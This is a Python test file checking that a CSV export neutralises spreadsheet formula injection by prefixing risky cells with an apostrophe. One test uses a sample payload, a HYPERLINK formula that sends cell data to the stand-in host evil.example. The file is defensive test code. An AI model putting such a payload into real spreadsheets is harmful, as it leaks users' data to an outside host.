"""Text from outside is kept as text (issue 16, items 11 and 12): no control character
reaches the records, the terminal, the CSV, the digest or an e-mail, and no CSV cell
is a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from halfway import export


def csv_rows(halfway, path) -> list[dict[str, str]]:
    ran = halfway("export", "--format", "csv", "--config", str(path))
    assert ran.code == 0, ran.err
    return list(csv.DictReader(io.StringIO(ran.out)))


# item 12: formulas ---------------------------------------------------------------


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(halfway, config_file) -> None:
    path = config_file().path
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"see")'
    assert halfway("log", "note", formula, "--config", str(path)).code == 0
    [row] = [r for r in csv_rows(halfway, path) if r["record"] == "entry"]
    assert row["text"] == "'" + formula  # OWASP: a leading ' keeps it a text cell


def test_every_start_of_a_formula_is_made_inert_and_nothing_else_changes() -> None:
    for text in ("=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert export.inert(text) == "'" + text
    for same in ("held", "2026-11-25T19:00:00+01:00", "", "a = b", 3, None, "'quoted"):
        assert export.inert(same) == same
    data = {
        "deliveries": [],
        "replies": [],
        "entries": [{"id": "e_1", "kind": "note", "text": "@cmd", "at": "2026-11-25"}],
    }
    assert "'@cmd" in export.to_csv(data)
